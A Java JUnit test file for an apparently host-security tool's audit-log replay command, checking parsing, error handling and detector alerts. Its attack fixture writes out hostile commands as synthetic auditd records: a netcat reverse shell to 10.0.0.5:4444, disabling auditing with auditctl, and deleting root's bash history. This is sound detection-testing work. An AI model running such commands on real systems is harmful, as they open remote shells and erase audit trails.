package io.edgesec.collector.audit.internal.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.edgesec.support.json.JsonDocuments;
import io.edgesec.collector.audit.internal.Corpus;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReplayCommandTest {
    @TempDir
    Path tmp;
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();

    private int run(String... args) {
        return ReplayCommand.run(args, new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8));
    }

    @Test
    void printsOneEventPerLineAndASummary() throws Exception {
        Path log = Corpus.dir().resolve("go-libaudit__testdata_normal.log");
        assertEquals(0, run("--audit-log", log.toString(), "--format", "jsonl"));
        List<String> lines = out.toString(StandardCharsets.UTF_8).lines().toList();
        assertEquals(3, lines.size(), out.toString());
        Map<String, Object> first = JsonDocuments.object(lines.get(0));
        assertEquals("ConnectionCreate", first.get("Name"));
        assertEquals("2017-04-12T22:48:09.295Z", first.get("TimestampUTC"));
        Map<?, ?> p = (Map<?, ?>) ((List<?>) first.get("Payload")).get(0);
        assertEquals("169.254.169.254", p.get("RemoteAddress"));
        assertEquals("ProcessCreate", JsonDocuments.object(lines.get(1)).get("Name"));
        String summary = err.toString(StandardCharsets.UTF_8);
        assertTrue(summary.contains("0 parse errors"), summary);
        assertTrue(summary.contains("3 security events"), summary);
    }

    @Test
    void garbageIsCountedAndNamedButDoesNotStopTheReplay() throws Exception {
        Path log = tmp.resolve("mixed.log");
        Files.writeString(log, "garbage line\n"
                + "type=USER_LOGIN msg=audit(1493216050.975:21203): pid=1 uid=0 auid=4294967295 ses=4294967295 "
                + "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=1.2.3.4 terminal=sshd res=failed'\n"
                + "type=SYSCALL msg=audit(1.000:5): exe=\"/bin/trunc\n");
        assertEquals(0, run("--audit-log", log.toString()));
        assertEquals(1, out.toString(StandardCharsets.UTF_8).lines().count());
        String e = err.toString(StandardCharsets.UTF_8);
        assertTrue(e.contains("2 parse errors"), e);
        assertTrue(e.contains(log + ":1: line does not start with type="), e);
        assertTrue(e.contains(log + ":3: unterminated \""), e);
    }

    @Test
    void badArgumentsAndUnreadableFilesExitTwoWithOneLine() {
        assertEquals(2, run("--audit-log", tmp.resolve("nope.log").toString()));
        assertEquals(1, err.toString(StandardCharsets.UTF_8).lines().count());
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("no such file"));
        err.reset();
        assertEquals(2, run("--audit-log", tmp.toString()));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("is a directory"), err.toString());
        err.reset();
        assertEquals(2, run("--format", "xml", "--audit-log", "x"));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("unknown format 'xml'"));
        err.reset();
        assertEquals(2, run("--bogus"));
        assertEquals(2, run());
        assertEquals(2, run("--audit-log"));
    }

    @Test
    void helpWorks() {
        assertEquals(0, run("--help"));
        assertTrue(out.toString(StandardCharsets.UTF_8).contains("usage: edgesec replay --audit-log FILE"));
    }

    @Test
    void runsFromAPlainClassLoaderWithOnlyAgentApiAndThisBundle() throws Exception {
        // what the launcher does: no OSGi on the class path, only agent-api's and this bundle's classes
        java.net.URL api = io.edgesec.api.event.SecurityEvent.class.getProtectionDomain().getCodeSource().getLocation();
        java.net.URL mine = ReplayCommand.class.getProtectionDomain().getCodeSource().getLocation();
        // the support library's classes that bnd copies into this bundle (-conditionalpackage);
        // before packaging they are still in their own jar
        java.net.URL support = io.edgesec.support.UserNames.class.getProtectionDomain().getCodeSource().getLocation();
        // and the shared bundles that export what these import: jackson-core (agent-api writes
        // events with it; this bundle reads JSON with it)
        java.net.URL jackson = com.fasterxml.jackson.core.JsonFactory.class.getProtectionDomain().getCodeSource().getLocation();
        try (java.net.URLClassLoader cl = new java.net.URLClassLoader(new java.net.URL[] {api, mine, support, jackson},
                ClassLoader.getPlatformClassLoader())) {
            Class<?> c = cl.loadClass(ReplayCommand.class.getName());
            Path log = Corpus.dir().resolve("go-libaudit__testdata_rollover.log");
            Object rc = c.getMethod("run", String[].class, PrintStream.class, PrintStream.class).invoke(null,
                    new String[] {"--audit-log", log.toString()}, new PrintStream(out, true, StandardCharsets.UTF_8),
                    new PrintStream(err, true, StandardCharsets.UTF_8));
            assertEquals(0, rc, err.toString());
            assertTrue(out.toString(StandardCharsets.UTF_8).contains("ProcessCreate"));
        }
    }

    /** Raw records of one execve as auditd writes them (RAW format). */
    static String exec(int serial, int pid, int ppid, String exe, String... argv) {
        String t = "1764583200." + String.format("%03d", serial % 1000) + ":" + serial;
        StringBuilder sb = new StringBuilder();
        sb.append("type=SYSCALL msg=audit(").append(t).append("): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=")
                .append(ppid).append(" pid=").append(pid).append(" auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"x\" exe=\"")
                .append(exe).append("\" subj=unconfined key=\"edgesec-exec\"\n");
        sb.append("type=EXECVE msg=audit(").append(t).append("): argc=").append(argv.length);
        for (int i = 0; i < argv.length; i++) {
            if (argv[i].matches("[ -~&&[^\" ]]+")) {
                sb.append(" a").append(i).append("=\"").append(argv[i]).append('"');
            } else {
                sb.append(" a").append(i).append('=');
                for (byte b : argv[i].getBytes(StandardCharsets.UTF_8)) {
                    sb.append(String.format("%02X", b));
                }
            }
        }
        sb.append("\ntype=CWD msg=audit(").append(t).append("): cwd=\"/root\"\n");
        sb.append("type=EOE msg=audit(").append(t).append("): \n");
        return sb.toString();
    }

    private Path attackLog() throws Exception {
        Path log = tmp.resolve("attack.log");
        Files.writeString(log, exec(101, 3001, 3000, "/usr/sbin/auditctl", "auditctl", "-e", "0")
                + exec(102, 3002, 3000, "/usr/bin/nc.traditional", "nc", "10.0.0.5", "4444", "-e", "/bin/sh")
                + exec(103, 3003, 3000, "/usr/bin/ls", "ls", "-l")
                + exec(104, 3004, 3000, "/usr/bin/rm", "rm", "-f", "/root/.bash_history"));
        return log;
    }

    @Test
    void jsonlPrintsTheEventsThenTheAlertsTheyRaise() throws Exception {
        assertEquals(0, run("--audit-log", attackLog().toString()), err.toString());
        List<String> lines = out.toString(StandardCharsets.UTF_8).lines().toList();
        List<String> names = lines.stream().map(l -> {
            try {
                return (String) JsonDocuments.object(l).get("Name");
            } catch (Exception e) {
                throw new AssertionError(l, e);
            }
        }).toList();
        assertEquals(List.of("ProcessCreate", "ProcessCreate", "ProcessCreate", "ProcessCreate", "Alert", "Alert", "Alert"), names);
        java.util.Set<Object> ids = new java.util.TreeSet<>();
        for (String l : lines.subList(4, 7)) {
            Map<?, ?> p = (Map<?, ?>) ((List<?>) JsonDocuments.object(l).get("Payload")).get(0);
            ids.add(p.get("AlertId"));
            assertEquals(1L, ((Number) p.get("Count")).longValue());
        }
        assertEquals(new java.util.TreeSet<>(List.of("IOTA-001", "IOTA-003", "IOTA-030")), ids);
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("3 alerts"), err.toString());
    }

    @Test
    void alertsOnlyAndTheTextSummary() throws Exception {
        Path log = attackLog();
        assertEquals(0, run("--audit-log", log.toString(), "--alerts-only"));
        assertEquals(3, out.toString(StandardCharsets.UTF_8).lines().count(), out.toString());
        out.reset();
        assertEquals(0, run("--audit-log", log.toString(), "--format", "text"));
        String text = out.toString(StandardCharsets.UTF_8);
        assertTrue(text.contains(": 4 events, 3 alerts"), text);
        assertTrue(text.indexOf("High (2)") < text.indexOf("Low (1)") && text.contains("High (2)"), text);
        assertTrue(text.contains("IOTA-001 Reverse shell"), text);
        assertTrue(text.contains("evidence: 2025-12-01T10:00:00.102Z ProcessCreate UserId=0 Executable=/usr/bin/nc.traditional "
                + "CommandLine=nc 10.0.0.5 4444 -e /bin/sh"), text);
    }

    @Test
    void detectorConfigurationDisablesAnAlert() throws Exception {
        Path cfg = tmp.resolve("cfg.json");
        Files.writeString(cfg, "{\"edgesec\": {\"io.edgesec.detector\": {\"disabledAlerts\": [\"IOTA-030\"]}}}");
        assertEquals(0, run("--audit-log", attackLog().toString(), "--alerts-only", "--detector-config", cfg.toString()));
        assertEquals(2, out.toString(StandardCharsets.UTF_8).lines().count(), out.toString());
        Files.writeString(cfg, "{\"suppressionWindow\": \"ten minutes\"}");
        err.reset();
        assertEquals(2, run("--audit-log", attackLog().toString(), "--detector-config", cfg.toString()));
        assertTrue(err.toString(StandardCharsets.UTF_8).contains("suppressionWindow: 'ten minutes' is not an ISO-8601 duration"), err.toString());
    }

    /** False positives: every benign log of the corpus replays without a single alert. */
    @Test
    void theBenignCorpusRaisesNoAlert() throws Exception {
        int files = 0;
        for (Path f : Corpus.files()) {
            Path log = tmp.resolve(f.getFileName() + ".raw");
            Files.write(log, Corpus.recordLines(f));
            out.reset();
            err.reset();
            assertEquals(0, run("--audit-log", log.toString(), "--alerts-only", "--format", "jsonl"), err.toString());
            assertEquals("", out.toString(StandardCharsets.UTF_8), f.getFileName() + " raised alerts");
            assertTrue(err.toString(StandardCharsets.UTF_8).contains("; 0 alerts"), err.toString());
            files++;
        }
        assertTrue(files >= 19, "corpus files: " + files);
    }
}
